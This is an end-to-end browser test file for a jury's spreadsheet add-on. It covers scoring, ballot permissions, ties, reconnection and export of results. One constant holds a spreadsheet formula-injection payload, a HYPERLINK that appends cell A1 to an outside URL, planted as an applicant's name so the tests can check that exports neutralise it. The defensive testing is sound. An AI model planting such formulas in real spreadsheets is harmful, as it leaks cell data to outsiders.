/**
 * An evening of the commission in a real browser, on the built add-on, page and worker and the sample of «Добро на Дону»:
 * a juror types and judges, the secretary counts, asks why and takes the results away. The tests follow each other.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { resolve } from 'node:path';
import { Workbook } from '@cj-tech-master/excelts';
import type { Browser, FrameLocator, Page, WebSocketRoute } from 'playwright-core';
import type { AddonFiles } from '../../src/desk/contract';
import type { Desk } from '../../src/desk/host';
import { deskPort, inWorkers } from '../../src/desk/server/desk-port';
import { serveDesk } from '../../src/desk/server/serve';
import type { Served } from '../../src/desk/server/serve';
import { sampleDobroNaDonu } from '../../src/local/sample/don';
import { reckoned } from '../../src/local/sample/reckoning';
import { TINTS } from '../../src/workbook/look';
import { columnLetters } from '../../src/workbook/table';
import { sampleDesk } from '../addon/sample-book';
import { until, untilIs } from '../patience';
import { gridOpened, newPage, startBrowser } from './browser';
import { shows, type } from './sheet-desk';

const JUROR = 'gorin@komissia.example';
const OTHER = 'tikhonov@komissia.example';
const SECRETARY = 'sekretar@komissia.example';
const FACTS = 'Показатели · Доброволец';
const MARKS = 'Оценки · Доброволец';
const NASTY = '=HYPERLINK("http://example.org/?"&A1;"Иванов")';

const sample = sampleDobroNaDonu();
const faults: string[] = [];
let browser: Browser;
let desk: Desk;
let served: Served;
let juror: Page;
let secretary: Page;
/** The juror's cable. */
const cable = { isCut: false, ends: new Set<WebSocketRoute>() };

function builtAddon(): AddonFiles {
  const pages = readdirSync('dist/addon').filter((file) => file.endsWith('.html'));
  return {
    code: readFileSync('dist/addon/Code.js', 'utf8'),
    manifest: JSON.parse(readFileSync('dist/addon/appsscript.json', 'utf8')) as AddonFiles['manifest'],
    pages: Object.fromEntries(pages.map((file) => [file.replace('.html', ''), readFileSync(`dist/addon/${file}`, 'utf8')])),
  };
}

const values = (tab: string, a1?: string): readonly (readonly unknown[])[] => desk.as(SECRETARY).values(tab, a1);

/** The letter of a column by its key. */
function letter(tab: string, key: string | RegExp): string {
  const index = (values(tab)[0] ?? []).findIndex((each) => (typeof key === 'string' ? each === key : key.test(String(each))));
  if (index < 0) throw new Error(`${tab} has no column ${String(key)}.`);
  return columnLetters(index + 1);
}

/** The number of the first row of a tab for which this holds, by the keys of its columns. */
function rowWhere(tab: string, holds: (row: Readonly<Record<string, unknown>>) => boolean): number {
  const [keys = [], , ...rows] = values(tab);
  const at = rows.findIndex((row) => holds(Object.fromEntries(keys.map((key, index) => [String(key), row[index]]))));
  if (at < 0) throw new Error(`${tab} has no such row.`);
  return at + 3;
}

function plugIn(socket: WebSocketRoute): void {
  if (cable.isCut) {
    void socket.close();
    return;
  }
  socket.connectToServer();
  cable.ends.add(socket);
}

async function openAs(email: string): Promise<Page> {
  const page = await newPage(browser, { viewport: { width: 1400, height: 900 }, acceptDownloads: true }, faults);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  if (email === JUROR) await page.routeWebSocket(/\/socket/, plugIn);
  await page.goto(`${served.url}?as=${email}`);
  await gridOpened(page);
  return page;
}

const openTab = (page: Page, tab: string): Promise<void> => page.locator('.o-sheet', { hasText: tab }).click();

async function choose(page: Page, item: string): Promise<void> {
  await page.locator('.o-topbar-topleft').getByText('Премия', { exact: true }).click();
  await page.locator('.o-menu').getByText(item, { exact: true }).click();
}

const form = (page: Page): FrameLocator => page.frameLocator('#sidebar iframe');

/** Waits until many points of the screen have the colour of what asks for attention. */
async function turnsRed(page: Page): Promise<void> {
  const colour = [1, 3, 5].map((at) => parseInt(TINTS.attention.background.slice(at, at + 2), 16));
  await page.waitForFunction((wanted) => {
    const canvas = document.querySelector<HTMLCanvasElement>('#grid canvas');
    const points = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
    let count = 0;
    for (let at = 0; at < points.length; at += 4) if (wanted.every((part, index) => points[at + index] === part)) count += 1;
    return count > 1000;
  }, colour);
}

beforeAll(async () => {
  desk = sampleDesk(sample, { addon: builtAddon() });
  // What an applicant may have called themselves.
  const row = rowWhere('Заявки', ({ nomination }) => nomination === 'Доброволец');
  desk.as(SECRETARY).type('Заявки', `${letter('Заявки', 'name')}${row}`, NASTY);
  served = await serveDesk({ desk: deskPort(desk, inWorkers(resolve('dist/desk/worker.mjs'))), save: () => Promise.resolve(), pagesDir: 'dist/desk/page', port: 0 });
  browser = await startBrowser();
  [juror, secretary] = await Promise.all([openAs(JUROR), openAs(SECRETARY)]);
});

afterAll(async () => {
  await browser.close();
  await served.close();
});

afterEach(() => expect(faults.splice(0)).toEqual([]));

test('a juror types 600 hours and sees 5 points beside at once, and so does the secretary', async () => {
  const row = rowWhere(FACTS, ({ 'fact:часы': hours }) => typeof hours === 'number' && hours < 400);
  const [hours, points] = [`${letter(FACTS, 'fact:часы')}${row}`, `${letter(FACTS, /^points:hours/)}${row}`];
  await Promise.all([openTab(juror, FACTS), openTab(secretary, FACTS)]);
  await type(juror, hours, '600');
  await shows(juror, points, '5');
  await until(() => values(FACTS, hours)[0]?.[0] === 600);
  await shows(secretary, hours, '600');
  await shows(secretary, points, '5');
});

test('a word instead of hours is refused with the reason, and the cell stays as it was', async () => {
  const cell = `${letter(FACTS, 'fact:часы')}3`;
  const before = values(FACTS, cell);
  await type(juror, cell, 'много');
  await juror.getByText('число от 0, например 412 или 99,5').waitFor();
  await juror.keyboard.press('Escape');
  expect(values(FACTS, cell)).toEqual(before);
  await shows(juror, cell, String(before[0]?.[0]).replace('.', ','));
});

test('another juror’s ballot is refused, and says whose it is', async () => {
  const row = rowWhere(MARKS, ({ juror: whose }) => whose === OTHER);
  const cell = `${letter(MARKS, /^mark:/)}${row}`;
  const before = values(MARKS, cell);
  await openTab(juror, MARKS);
  await type(juror, cell, '1');
  await juror.locator('.desk-toast', { hasText: 'Изменять может' }).first().waitFor();
  expect(values(MARKS, cell)).toEqual(before);
});

test('«Мой бюллетень»: marked by keyboard, saved, and the next one opens', async () => {
  await choose(juror, 'Мой бюллетень');
  const sidebar = form(juror);
  // The cursor is on an application, which opens at once.
  await sidebar.getByText('К списку').click();
  await sidebar.locator('button.item').first().focus();
  const code = (await sidebar.locator('button.item').first().getAttribute('data-application')) ?? '';
  await juror.keyboard.press('Enter');
  await sidebar.locator('fieldset').first().waitFor();
  const name = await sidebar.locator('h2').innerText();
  const count = await sidebar.locator('fieldset.criterion').count();
  for (let index = 0; index < count; index += 1) {
    await juror.keyboard.press('Delete');
    await juror.keyboard.press(String(1 + (index % 3)));
    await juror.keyboard.press('Enter');
  }
  await juror.keyboard.press('Control+Enter');
  await sidebar.locator('h2').filter({ hasNotText: name }).waitFor();
  const tab = desk.as(SECRETARY).tabs().map((each) => each.name).find((each) => each.startsWith('Оценки') && values(each).some((row) => row.includes(code))) ?? '';
  const row = rowWhere(tab, (cells) => cells['code'] === code && cells['juror'] === JUROR);
  const keys = values(tab)[0] ?? [];
  const marks = (): unknown => values(tab)[row - 1]?.filter((_mark, index) => String(keys[index]).startsWith('mark:'));
  await untilIs(marks, Array.from({ length: count }, (_, index) => 1 + (index % 3)));
});

test('«Подвести итоги» shows the planted tie on «Ничьи», and red rows on «Итоги»', async () => {
  await choose(secretary, 'Подвести итоги');
  const dialog = secretary.getByRole('dialog', { name: 'Подвести итоги' });
  await dialog.getByText('лист «Ничьи»').waitFor();
  await secretary.keyboard.press('Enter');
  await dialog.waitFor({ state: 'detached' });
  const planted = reckoned(sample, 'volunteer').ties.find(({ place }) => place === 5);
  expect(planted?.applications).toHaveLength(2);
  await openTab(secretary, 'Ничьи');
  await shows(secretary, `${letter('Ничьи', 'places')}3`, '5–6');
  // One of the tied a row.
  for (const [index, application] of (planted?.applications ?? []).entries()) await shows(secretary, `${letter('Ничьи', 'code')}${index + 3}`, application);
  await turnsRed(secretary);
  await openTab(secretary, 'Итоги');
  await turnsRed(secretary);
});

test('«Почему такой балл» quotes the clause beside every criterion', async () => {
  await choose(secretary, 'Почему такой балл');
  const sidebar = form(secretary);
  const found = sample.applications.find(({ nomination, name }) => nomination === 'volunteer' && !name.startsWith('='));
  await sidebar.locator('input[type=search]').fill(found?.id ?? '');
  await sidebar.locator('button.item').first().click();
  await sidebar.locator('section.criterion').first().waitFor();
  const quotes = await sidebar.locator('section.criterion blockquote').allInnerTexts();
  expect(quotes.some((quote) => quote.includes('600'))).toBe(true);
  expect(quotes).toHaveLength(await sidebar.locator('section.criterion').count());
});

test('a lost connection says so, keeps what was typed, and catches up', async () => {
  const cell = `${letter(FACTS, /^fact:курсы/)}3`;
  await openTab(juror, FACTS);
  cable.isCut = true;
  for (const end of cable.ends) await end.close();
  await juror.locator('.desk-status', { hasText: 'Нет связи' }).waitFor();
  await type(juror, cell, '17');
  await shows(juror, cell, '17');
  expect(values(FACTS, cell)).not.toEqual([[17]]);
  cable.isCut = false;
  await until(() => values(FACTS, cell)[0]?.[0] === 17);
  await juror.locator('.desk-status', { hasText: 'Сохранено' }).waitFor();
});

describe('«Экспорт итогов»', () => {
  async function download(format: string): Promise<string> {
    await form(secretary).getByText(`(${format})`).click();
    const [file] = await Promise.all([secretary.waitForEvent('download'), form(secretary).getByRole('button', { name: 'Скачать' }).click()]);
    expect(file.suggestedFilename().endsWith(format)).toBe(true);
    return file.path();
  }

  beforeAll(() => choose(secretary, 'Экспорт итогов'));

  test('the .xlsx reads back with numbers as numbers, and an applicant’s formula as text', async () => {
    const book = new Workbook();
    await book.xlsx.load(new Uint8Array(readFileSync(await download('.xlsx'))));
    // One sheet a nomination, the ties, and the register of decisions.
    expect(book.worksheets).toHaveLength(sample.award.nominations.length + 2);
    const cells = book.worksheets.flatMap((paper) => {
      const found: { value: unknown; isFormula: boolean }[] = [];
      paper.eachRow((row) => row.eachCell((cell) => found.push({ value: cell.value, isFormula: cell.formula !== undefined })));
      return found;
    });
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
    expect(cells.filter(({ value }) => typeof value === 'number').length).toBeGreaterThan(sample.applications.length);
    expect(cells.some(({ value }) => typeof value === 'string' && value.endsWith(NASTY))).toBe(true);
  });

  test('the .csv has a row for each application, Russian letters, and no cell that a spreadsheet would run', async () => {
    const text = readFileSync(await download('.csv'), 'utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    // The ties follow, each row beginning with its nomination.
    const ranked = lines.filter((line) => !sample.award.nominations.some(({ shortTitle }) => line.startsWith(`${shortTitle.ru};`)));
    for (const { id } of sample.applications) expect(ranked.filter((line) => line.includes(id))).toHaveLength(1);
    expect(text).toContain('HYPERLINK');
    expect(text).not.toMatch(/(?:^|[;\r\n])"?[=@]/);
  });
});
